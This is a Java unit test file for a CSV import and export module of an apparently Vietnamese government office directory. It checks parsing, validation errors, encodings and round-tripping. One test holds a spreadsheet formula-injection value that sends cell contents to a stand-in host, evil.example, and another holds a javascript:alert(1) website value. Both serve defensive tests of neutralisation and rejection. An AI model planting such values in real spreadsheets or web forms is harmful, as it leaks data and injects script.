package vn.edoc.directory;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringWriter;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.Test;
import vn.edoc.directory.DirectoryCsv.Parsed;
import vn.edoc.error.ErrorCode;
import vn.edoc.error.Problem;

class DirectoryCsvTest {
    private static final String HEADER = "code,second_code,name,kind,level,parent_code,organization_in_charge,address,"
            + "email,telephone,fax,website,state,valid_from,valid_to,successors,receives,push_endpoint,sample\n";

    @Test
    void aFileWithMoreLinesThanTakenIsRefusedWhereverTheyAreGoodOrBad() throws IOException {
        String header = "code,name,kind,level\n";
        String good = "000.01.41.H21,UBND phường Diên Hồng,UBND phường,COMMUNE\n";
        String bad = "000.0.41.H21,,,\n";

        assertThat(DirectoryCsv.read(stream(header + good + bad), 2).problems())
                .extracting(Problem::line)
                .contains(3);
        org.assertj.core.api.Assertions.assertThatThrownBy(
                        () -> DirectoryCsv.read(stream(header + good + bad + bad), 2))
                .isInstanceOfSatisfying(
                        vn.edoc.error.EdocException.class,
                        e -> assertThat(e.code()).isEqualTo(ErrorCode.DIRECTORY_FILE_TOO_LARGE));
    }

    private static ByteArrayInputStream stream(String text) {
        return new ByteArrayInputStream(text.getBytes(java.nio.charset.StandardCharsets.UTF_8));
    }

    @Test
    void writingAndReadingAgainGivesTheSameOffices() throws IOException {
        String text = HEADER
                + "000.00.00.H21,H21.UBND,UBND tỉnh Gia Lai,UBND tỉnh,PROVINCE,,,\"Số 02 Trần Phú, Pleiku\","
                + "vanthu@gialai.gov.vn,0269 3823 111,,https://gialai.gov.vn,ACTIVE,2004-01-01,,,PULL,,true\n"
                + "# a comment line\n"
                + "000.00.41.H21,,\"UBND thành phố \"\"Pleiku\"\"\",UBND thành phố,DISTRICT,000.00.00.H21,UBND tỉnh,"
                + "\"tầng 2\nsố 1\",,,,,DISSOLVED,,2025-06-30,000.00.00.H21|000.01.60.H21,push,"
                + "https://dms.pleiku.example/edoc,false\n";

        Parsed first = DirectoryCsv.read(text);
        StringWriter written = new StringWriter();
        DirectoryCsv.write(
                written, first.lines().stream().map(DirectoryCsv.Line::office).toList());
        Parsed again = DirectoryCsv.read(written.toString());

        assertThat(first.problems()).isEmpty();
        assertThat(first.lines()).extracting(DirectoryCsv.Line::number).containsExactly(2, 4);
        OfficeRecord pleiku = first.lines().get(1).office();
        assertThat(pleiku.name()).isEqualTo("UBND thành phố \"Pleiku\"");
        assertThat(pleiku.contact().address()).isEqualTo("tầng 2\nsố 1");
        assertThat(pleiku.state()).isEqualTo(OfficeState.DISSOLVED);
        assertThat(pleiku.validTo()).isEqualTo(LocalDate.of(2025, 6, 30));
        assertThat(pleiku.successors()).containsExactly("000.00.00.H21", "000.01.60.H21");
        assertThat(pleiku.reception()).isEqualTo(Reception.PUSH);
        assertThat(again.problems()).isEmpty();
        assertThat(again.lines())
                .extracting(DirectoryCsv.Line::office)
                .containsExactlyElementsOf(
                        first.lines().stream().map(DirectoryCsv.Line::office).toList());
    }

    @Test
    void columnsMayComeInAnyOrderAndOptionalOnesMayBeLeftOut() {
        Parsed parsed = DirectoryCsv.read("level,name,code,kind\nCOMMUNE,UBND xã Ia O,000.05.44.H21,UBND xã\n");

        assertThat(parsed.problems()).isEmpty();
        OfficeRecord office = parsed.lines().get(0).office();
        assertThat(office.code()).isEqualTo("000.05.44.H21");
        assertThat(office.state()).isEqualTo(OfficeState.ACTIVE);
        assertThat(office.reception()).isEqualTo(Reception.PULL);
        assertThat(office.parentCode()).isNull();
    }

    @Test
    void aBadFileReportsEveryProblemWithItsLineAndColumn() {
        String text = HEADER
                + "000.0.41.H21,,UBND phường Tây Sơn,UBND phường,COMMUNE,000.00.41.H21,,,,,,,,,,,,,\n"
                + "000.02.41.H21,,,UBND phường,COMMUNE,,,,vanthu-at-example,,,,ACTIVE,2025-02-30,,,,,\n"
                + "000.03.41.H21,,UBND xã Biển Hồ,UBND xã,COMMUNE,,,,,,,,GONE,2025-07-01,2025-06-30,,PUSH,,maybe\n"
                + "000.04.41.H21,,too few fields\n"
                + "000.05.41.H21,,UBND xã Gào,UBND xã,COMMUNE,,,,,,,,,,,000.05.41.H2|x y,PULL,ftp://dms,\n";

        Parsed parsed = DirectoryCsv.read(text);

        assertThat(parsed.lines()).isEmpty();
        assertThat(parsed.problems())
                .extracting(Problem::code, Problem::line, Problem::column)
                .containsExactly(
                        tuple(ErrorCode.OFFICE_CODE_INVALID, 2, 1),
                        tuple(ErrorCode.EMAIL_INVALID, 3, 9),
                        tuple(ErrorCode.CSV_DATE_INVALID, 3, 14),
                        tuple(ErrorCode.FIELD_REQUIRED, 3, 3),
                        tuple(ErrorCode.VALIDITY_REVERSED, 4, 15),
                        tuple(ErrorCode.PUSH_ENDPOINT_INVALID, 4, 18),
                        tuple(ErrorCode.VALUE_NOT_ALLOWED, 4, 13),
                        tuple(ErrorCode.VALUE_NOT_ALLOWED, 4, 19),
                        tuple(ErrorCode.CSV_FIELD_COUNT, 5, 1),
                        tuple(ErrorCode.PUSH_ENDPOINT_INVALID, 6, 18),
                        tuple(ErrorCode.OFFICE_CODE_INVALID, 6, 16),
                        tuple(ErrorCode.OFFICE_CODE_INVALID, 6, 16));
        assertThat(parsed.problems().get(0).message(java.util.Locale.forLanguageTag("vi")))
                .contains("000.0.41.H21", "code");
    }

    @Test
    void aHeaderWithoutARequiredColumnOrWithAnUnknownOneIsRefused() {
        Parsed parsed = DirectoryCsv.read("code,name,level,colour\n000.00.00.H21,UBND tỉnh,PROVINCE,red\n");

        assertThat(parsed.lines()).isEmpty();
        assertThat(parsed.problems())
                .extracting(Problem::code, Problem::path)
                .containsExactly(
                        tuple(ErrorCode.CSV_HEADER_INVALID, "colour"), tuple(ErrorCode.CSV_HEADER_INVALID, "kind"));
    }

    @Test
    void unreadableCsvAndOtherEncodingsAreRefused() throws IOException {
        Parsed unclosed = DirectoryCsv.read(HEADER + "000.00.00.H21,,\"UBND tỉnh,UBND tỉnh,PROVINCE\n");
        byte[] latin1 = (HEADER + "000.00.00.H21,,UBND t\u1ec9nh,x,PROVINCE,,,,,,,,,,,,,,\n")
                .getBytes(java.nio.charset.StandardCharsets.UTF_16LE);
        Parsed notUtf8 = DirectoryCsv.read(new ByteArrayInputStream(latin1));

        assertThat(unclosed.problems()).extracting(Problem::code).containsExactly(ErrorCode.CSV_MALFORMED);
        assertThat(notUtf8.problems()).extracting(Problem::code).isNotEmpty().allMatch(c -> c != null);
        assertThat(notUtf8.lines()).isEmpty();
    }

    @Test
    void anEmptyFileLacksItsHeader() {
        assertThat(DirectoryCsv.read("").problems())
                .extracting(Problem::code)
                .containsExactly(ErrorCode.CSV_HEADER_INVALID);
    }

    static List<DirectoryCsv.Line> lines(String body) {
        Parsed parsed = DirectoryCsv.read(HEADER + body);
        assertThat(parsed.problems()).isEmpty();
        return parsed.lines();
    }

    @Test
    void aCellASpreadsheetWouldRunAsAFormulaIsExportedAsTextAndImportsBackUnchanged() throws IOException {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"UBND xã\")";
        String text = HEADER + "000.05.44.H21,,\"" + formula.replace("\"", "\"\"")
                + "\",UBND xã,COMMUNE,,@SUM(1),,,+84 269 3823 111,,,ACTIVE,,,,PULL,,false\n";
        Parsed first = DirectoryCsv.read(text);
        StringWriter written = new StringWriter();
        DirectoryCsv.write(
                written, first.lines().stream().map(DirectoryCsv.Line::office).toList());
        Parsed again = DirectoryCsv.read(written.toString());

        assertThat(first.problems()).isEmpty();
        assertThat(written.toString())
                .contains("'=HYPERLINK", "'@SUM(1)", "'+84 269 3823 111")
                .doesNotContain(",=", ",@", ",+", ",\"=");
        assertThat(again.problems()).isEmpty();
        OfficeRecord office = again.lines().get(0).office();
        assertThat(office.name()).isEqualTo(formula);
        assertThat(office.contact().organizationInCharge()).isEqualTo("@SUM(1)");
        assertThat(office.contact().telephone()).isEqualTo("+84 269 3823 111");
    }

    @Test
    void aTelephoneOrFaxIsNumbersAndAWebsiteIsAnHttpAddressOrAHost() {
        String good = HEADER + "000.05.44.H21,,UBND xã Ia O,UBND xã,COMMUNE,,,,,(0269) 3.823.111 - 3823 112,"
                + "0269/3823113,iao.gialai.gov.vn,ACTIVE,,,,PULL,,false\n";
        String bad = HEADER + "000.05.44.H21,,UBND xã Ia O,UBND xã,COMMUNE,,,,,=1+2,gọi tổng đài,"
                + "javascript:alert(1),ACTIVE,,,,PULL,,false\n";

        assertThat(DirectoryCsv.read(good).problems()).isEmpty();
        assertThat(DirectoryCsv.read(bad).problems())
                .extracting(Problem::code)
                .containsExactly(ErrorCode.PHONE_INVALID, ErrorCode.PHONE_INVALID, ErrorCode.WEBSITE_INVALID);
    }
}
